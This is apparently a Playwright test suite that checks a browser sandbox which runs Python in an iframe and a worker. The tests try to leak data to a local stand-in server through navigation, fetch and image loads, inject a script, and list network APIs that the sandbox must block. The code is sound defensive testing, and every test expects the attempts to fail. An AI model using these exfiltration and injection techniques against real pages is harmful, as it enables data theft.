import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Frame, Page, Worker } from "@playwright/test";
import { expect, test } from "./fixtures.ts";
import { KitchenPage } from "./kitchen-page.ts";

/** A server of somebody else. Whatever reaches it got out. */
function startWitness(): Promise<{ address: string; seen: string[]; server: Server }> {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(request.url ?? "");
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.end("seen");
  });
  return new Promise((resolve) => {
    server.listen(0, "127.0.0.1", () => {
      const { port } = server.address() as AddressInfo;
      resolve({ address: `http://127.0.0.1:${port}/`, seen, server });
    });
  });
}

/** The frame Python lives in, and its worker. */
async function openBox(page: Page): Promise<{ frame: Frame; worker: Worker }> {
  const started = page.waitForEvent("worker");
  await new KitchenPage(page).open();
  const worker = await started;
  await new KitchenPage(page).pythonIsReady();
  const frame = page.frames().find((one) => one.url() === "about:srcdoc");
  if (frame === undefined) throw new Error("There is no frame for Python.");
  return { frame, worker };
}

test("the frame cannot carry anything away by navigating", async ({ page, allowedMessages }) => {
  const { address, seen, server } = await startWitness();
  allowedMessages.push(/frame-src/);
  const { frame } = await openBox(page);
  const refused = page.waitForEvent("console", (message) => message.text().includes("frame-src"));
  await frame.evaluate((where) => {
    location.href = `${where}?stolen`;
  }, address);
  await refused;
  expect(seen).toEqual([]);
  server.close();
});

test("the frame can neither ask for anything nor run text", async ({ page, allowedMessages }) => {
  const { address, seen, server } = await startWitness();
  allowedMessages.push(/Content Security Policy/);
  const { frame } = await openBox(page);
  const outcomes = await frame.evaluate(async (where) => {
    // Devtools may evaluate text: only what runs later counts.
    await new Promise((resolve) => setTimeout(resolve));
    const attempts = [
      () => fetch(where, { mode: "no-cors" }),
      () => new Function("return 1")(),
      () => localStorage.length,
      () => parent.document.title,
      () =>
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = reject;
          image.src = where;
        }),
    ];
    return Promise.all(
      attempts.map(async (attempt) => {
        try {
          await attempt();
          return "reached";
        } catch {
          return "refused";
        }
      }),
    );
  }, address);
  expect(outcomes).toEqual(["refused", "refused", "refused", "refused", "refused"]);
  expect(seen).toEqual([]);
  server.close();
});

test("the worker has given up every power it does not need", async ({ page }) => {
  const { worker } = await openBox(page);
  const left = await worker.evaluate(() => {
    const powers = [
      ..."fetch XMLHttpRequest WebSocket EventSource WebTransport Request Response".split(" "),
      ..."importScripts Worker SharedWorker BroadcastChannel postMessage close name".split(" "),
      ..."indexedDB caches navigation cookieStore FontFace Notification".split(" "),
      ..."Blob File FileReader FileReaderSync createImageBitmap OffscreenCanvas".split(" "),
    ];
    return powers.filter((power) => Reflect.get(globalThis, power) !== undefined);
  });
  expect(left).toEqual([]);
});

test("the page runs no text as code", async ({ page, allowedMessages }) => {
  allowedMessages.push(/Content Security Policy/);
  await new KitchenPage(page).open();
  const outcomes = await page.evaluate(async () => {
    // Devtools may evaluate text: only what runs later counts.
    await new Promise((resolve) => setTimeout(resolve));
    const script = document.createElement("script");
    script.textContent = "document.title = 'stolen'";
    document.body.append(script);
    try {
      new Function("return 1")();
      return ["reached", document.title];
    } catch {
      return ["refused", document.title];
    }
  });
  expect(outcomes).toEqual(["refused", "Signal Kitchen"]);
});
